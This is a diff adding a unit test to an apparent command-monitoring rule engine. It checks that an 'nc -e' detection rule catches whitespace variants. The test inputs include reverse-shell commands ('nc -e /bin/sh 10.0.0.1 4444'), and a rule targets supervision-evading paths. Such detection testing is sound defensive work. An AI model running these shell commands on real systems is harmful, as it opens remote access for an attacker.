@@ -406,3 +406,27 @@ def test_what_a_finding_reports_as_matched_does_not_depend_on_the_run():
     outputs = {subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True,
                               env={"PYTHONHASHSEED": str(seed)}).stdout for seed in (1, 2, 3, 4)}
     assert len(outputs) == 1 and "cmd.flags" in outputs.pop()
+
+
+def test_a_literal_with_a_space_in_a_joined_field_does_not_let_a_tab_pass():
+    loader = Loader()
+    loader.add_text(textwrap.dedent("""
+        - rule: nc_exec
+          title: nc -e
+          category: network_access
+          severity: high
+          condition: cmd.line icontains "nc -e"
+        - rule: spaced_dir
+          title: a program in a directory named by spaces
+          category: supervision_evasion
+          severity: high
+          condition: cmd.path regex "/ +/"
+    """), "spaces.yaml")
+    eng = Engine(loader.build())
+    for text in ("nc -e /bin/sh 10.0.0.1 4444", "nc\t-e /bin/sh 10.0.0.1 4444", "nc  -e /bin/sh 10.0.0.1 4444"):
+        assert _rules(eng, text) == ["nc_exec"]  # cmd.line joins the words with one space
+    # a space inside one word is the text's own: `/ ` and ` /` must both be there, unless a pipe
+    # may have moved the white space
+    assert _rules(eng, "ls -la srv/ data/x") == [] and eng.parsed == 3
+    assert _rules(eng, "'/tmp/ /x' -d") == ["spaced_dir"]
+    assert _rules(eng, "echo hi | '/tmp/  /x'") == ["spaced_dir"]
